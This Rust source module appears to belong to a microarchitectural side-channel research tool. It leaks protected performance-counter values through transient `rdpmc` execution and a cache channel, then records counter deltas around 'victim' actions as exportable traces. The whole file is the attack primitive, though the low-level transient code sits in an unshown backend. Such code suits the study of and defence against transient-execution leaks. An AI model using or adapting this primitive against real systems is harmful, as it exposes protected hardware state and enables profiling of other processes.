//! Leaking performance counters through a transient `rdpmc` and the cache
//! channel, one to four low bytes per read.

use std::io::{Read, Write};

use serde::{Deserialize, Serialize};

use crate::backend::Backend;
use crate::channel::DEFAULT_STRIDE;
use crate::error::{Error, Result};
use crate::harness::{EncodeWindow, TransientBody, VictimContext};
use crate::probes::ProbeKind;
use crate::stats::{median_i64, CycleStats};

pub const DEFAULT_RETRIES: usize = 5;
/// Empty-action deltas whose median is taken as the primitive's self-count.
pub const SELF_NOISE_SAMPLES: usize = 15;

#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum ProgrammedBy {
    /// Someone else already programmed the counter.
    #[default]
    PreExisting,
    /// Programmed by this tool's privileged setup step.
    SetupHelper,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct CounterSelector {
    /// `ecx` operand of `rdpmc`.
    pub counter_index: u32,
    pub event_name: String,
    #[serde(default)]
    pub programmed_by: ProgrammedBy,
}

impl CounterSelector {
    pub fn new(counter_index: u32, event_name: impl Into<String>) -> Self {
        Self {
            counter_index,
            event_name: event_name.into(),
            programmed_by: ProgrammedBy::PreExisting,
        }
    }

    pub fn validate(&self) -> Result<()> {
        if self.event_name.trim().is_empty() {
            return Err(Error::InvalidArgument("counter event name is empty".into()));
        }
        Ok(())
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct CounterSample {
    pub value: u64,
    pub bytes: usize,
    /// Cycles for the whole leak, including retries and decoding.
    pub sample_cycles: u64,
    /// Cycles of the last transient window alone.
    pub encode_cycles: u64,
    /// Slots reloaded while decoding.
    pub probe_count: u64,
    pub attempts: usize,
}

/// `post - pre` modulo `256^bytes`, read as signed: differences of half the
/// range or more are taken as negative.
pub fn wrap_delta(pre: u64, post: u64, bytes: usize) -> i64 {
    let bits = 8 * bytes as u32;
    let range = 1i128 << bits;
    let d = (post as i128 - pre as i128).rem_euclid(range);
    (if d >= range / 2 { d - range } else { d }) as i64
}

pub struct CounterLeak<'b, B: Backend> {
    backend: &'b mut B,
    selector: CounterSelector,
    bytes: usize,
    retries: usize,
    self_noise: Option<i64>,
}

impl<'b, B: Backend> CounterLeak<'b, B> {
    /// Prepare to leak the low `bytes` bytes of the selected counter: check
    /// that user space really cannot read it, then set up a channel with one
    /// symbol per byte.
    pub fn new(
        backend: &'b mut B,
        selector: CounterSelector,
        bytes: usize,
        retries: usize,
    ) -> Result<Self> {
        Self::with_stride(backend, selector, bytes, retries, DEFAULT_STRIDE)
    }

    pub fn with_stride(
        backend: &'b mut B,
        selector: CounterSelector,
        bytes: usize,
        retries: usize,
        stride: usize,
    ) -> Result<Self> {
        selector.validate()?;
        if !(1..=4).contains(&bytes) {
            return Err(Error::InvalidArgument(format!(
                "cannot leak {bytes} bytes per read"
            )));
        }
        if retries == 0 {
            return Err(Error::InvalidArgument("retries must be positive".into()));
        }
        backend.program_counter(&selector)?;
        if backend
            .architectural_read(ProbeKind::Rdpmc, selector.counter_index as u64)?
            .is_some()
        {
            return Err(Error::EnvironmentNotRestricted {
                probe: ProbeKind::Rdpmc.to_string(),
            });
        }
        backend.configure_channel(stride, bytes, 8)?;
        Ok(Self {
            backend,
            selector,
            bytes,
            retries,
            self_noise: None,
        })
    }

    pub fn selector(&self) -> &CounterSelector {
        &self.selector
    }

    pub fn bytes(&self) -> usize {
        self.bytes
    }

    pub fn backend(&mut self) -> &mut B {
        self.backend
    }

    /// Leak the counter. Each attempt encodes all bytes in one transient
    /// window; attempts repeat only while some byte fails to decode to a
    /// single slot, and each byte takes the majority of its single-hit
    /// decodes.
    pub fn leak(&mut self) -> Result<CounterSample> {
        let window = EncodeWindow::low_bytes(self.bytes);
        let body = TransientBody::Probe {
            probe: ProbeKind::Rdpmc,
            operand: self.selector.counter_index as u64,
            window,
        };
        let probes_before = self.backend.channel().probes_issued();
        let start = self.backend.cycles();
        let mut votes = vec![[0u32; 256]; self.bytes];
        let mut encode_cycles = 0;
        let mut attempts = 0;
        while attempts < self.retries {
            attempts += 1;
            self.backend.channel().flush_all();
            encode_cycles = self.backend.run_transient(&body)?.encode_cycles;
            let mut clean = true;
            for (symbol, tally) in votes.iter_mut().enumerate() {
                match self.backend.channel().decode(symbol)?.single_hit() {
                    Some(slot) => tally[slot] += 1,
                    None => clean = false,
                }
            }
            if clean {
                break;
            }
        }
        let mut value = 0u64;
        for (symbol, tally) in votes.iter().enumerate() {
            let (byte, &count) = tally
                .iter()
                .enumerate()
                .max_by(|a, b| a.1.cmp(b.1).then(b.0.cmp(&a.0)))
                .expect("256 slots");
            if count == 0 {
                return Err(Error::NoLeakage { attempts });
            }
            value |= (byte as u64) << (8 * symbol);
        }
        let sample_cycles = self
            .backend
            .cycles()
            .saturating_sub(start)
            .max(encode_cycles);
        Ok(CounterSample {
            value,
            bytes: self.bytes,
            sample_cycles,
            encode_cycles,
            probe_count: self.backend.channel().probes_issued() - probes_before,
            attempts,
        })
    }

    /// Leak before and after running `action` in the victim context.
    pub fn leak_delta(&mut self, action: impl FnOnce(&mut dyn VictimContext)) -> Result<i64> {
        self.leak_delta_with(|backend| {
            action(backend.victim());
            Ok(())
        })
    }

    /// Like [`leak_delta`](Self::leak_delta) with the whole backend at hand,
    /// for actions that need transient execution themselves.
    pub fn leak_delta_with(&mut self, action: impl FnOnce(&mut B) -> Result<()>) -> Result<i64> {
        let pre = self.leak()?.value;
        action(self.backend)?;
        let post = self.leak()?.value;
        Ok(wrap_delta(pre, post, self.bytes))
    }

    /// Delta of an empty action: what the leak primitive itself adds to the
    /// counter. Measured on first use and cached.
    pub fn self_noise(&mut self) -> Result<i64> {
        if let Some(noise) = self.self_noise {
            return Ok(noise);
        }
        let deltas = (0..SELF_NOISE_SAMPLES)
            .map(|_| self.leak_delta(|_| {}))
            .collect::<Result<Vec<_>>>()?;
        let noise = median_i64(&deltas).expect("nonempty").round() as i64;
        self.self_noise = Some(noise);
        Ok(noise)
    }

    /// Fault-to-recovery latency of the transient window encoding all
    /// configured bytes.
    pub fn measure_encode_window(&mut self, repetitions: usize) -> Result<CycleStats> {
        if repetitions == 0 {
            return Err(Error::InvalidArgument(
                "repetitions must be positive".into(),
            ));
        }
        if !self.backend.capabilities().has_cycle_counter {
            return Err(Error::TimerUnavailable(
                "no cycle counter on this backend".into(),
            ));
        }
        let body = TransientBody::Probe {
            probe: ProbeKind::Rdpmc,
            operand: self.selector.counter_index as u64,
            window: EncodeWindow::low_bytes(self.bytes),
        };
        let mut cycles = Vec::with_capacity(repetitions);
        for _ in 0..repetitions {
            self.backend.channel().flush_all();
            cycles.push(self.backend.run_transient(&body)?.encode_cycles);
        }
        Ok(CycleStats::from_samples(&cycles).expect("nonempty"))
    }

    /// `samples` consecutive leaks; deltas between neighbours form the trace.
    pub fn sample_series(
        &mut self,
        samples: usize,
        metadata: TraceMetadata,
    ) -> Result<(TraceSeries, Vec<CounterSample>)> {
        let mut raw = Vec::with_capacity(samples + 1);
        for _ in 0..=samples {
            raw.push(self.leak()?);
        }
        let mut series = TraceSeries::new(self.selector.clone(), metadata);
        for pair in raw.windows(2) {
            series.push(wrap_delta(pair[0].value, pair[1].value, self.bytes));
        }
        raw.remove(0);
        Ok((series, raw))
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct TraceSample {
    pub sequence_number: u64,
    pub delta: i64,
}

#[derive(Debug, Clone, PartialEq, Eq, Default, Serialize, Deserialize)]
pub struct TraceMetadata {
    pub victim: String,
    pub repetition: u64,
}

impl TraceMetadata {
    pub fn new(victim: impl Into<String>, repetition: u64) -> Self {
        Self {
            victim: victim.into(),
            repetition,
        }
    }
}

/// Ordered counter deltas with the counter and victim they came from.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct TraceSeries {
    pub selector: CounterSelector,
    pub metadata: TraceMetadata,
    pub samples: Vec<TraceSample>,
}

impl TraceSeries {
    pub fn new(selector: CounterSelector, metadata: TraceMetadata) -> Self {
        Self {
            selector,
            metadata,
            samples: Vec::new(),
        }
    }

    pub fn from_deltas(
        selector: CounterSelector,
        metadata: TraceMetadata,
        deltas: impl IntoIterator<Item = i64>,
    ) -> Self {
        let mut series = Self::new(selector, metadata);
        for d in deltas {
            series.push(d);
        }
        series
    }

    /// Append with the next sequence number.
    pub fn push(&mut self, delta: i64) {
        let sequence_number = self.samples.last().map_or(0, |s| s.sequence_number + 1);
        self.samples.push(TraceSample {
            sequence_number,
            delta,
        });
    }

    pub fn deltas(&self) -> Vec<i64> {
        self.samples.iter().map(|s| s.delta).collect()
    }

    pub fn len(&self) -> usize {
        self.samples.len()
    }

    pub fn is_empty(&self) -> bool {
        self.samples.is_empty()
    }

    pub fn validate(&self) -> Result<()> {
        self.selector.validate()?;
        for pair in self.samples.windows(2) {
            if pair[1].sequence_number <= pair[0].sequence_number {
                return Err(Error::InvalidArgument(format!(
                    "sequence number {} follows {}",
                    pair[1].sequence_number, pair[0].sequence_number
                )));
            }
        }
        Ok(())
    }

    /// `sequence_number,delta` rows with a header.
    pub fn write_csv<W: Write>(&self, writer: W) -> Result<()> {
        let mut w = csv::Writer::from_writer(writer);
        for s in &self.samples {
            w.serialize(s)?;
        }
        w.flush()?;
        Ok(())
    }

    pub fn read_csv<R: Read>(
        reader: R,
        selector: CounterSelector,
        metadata: TraceMetadata,
    ) -> Result<Self> {
        let mut r = csv::Reader::from_reader(reader);
        let samples = r.deserialize().collect::<Result<Vec<TraceSample>, _>>()?;
        let series = Self {
            selector,
            metadata,
            samples,
        };
        series.validate()?;
        Ok(series)
    }

    pub fn to_json(&self) -> Result<String> {
        Ok(serde_json::to_string_pretty(self)?)
    }

    pub fn from_json(text: &str) -> Result<Self> {
        let series: Self = serde_json::from_str(text)?;
        series.validate()?;
        Ok(series)
    }
}
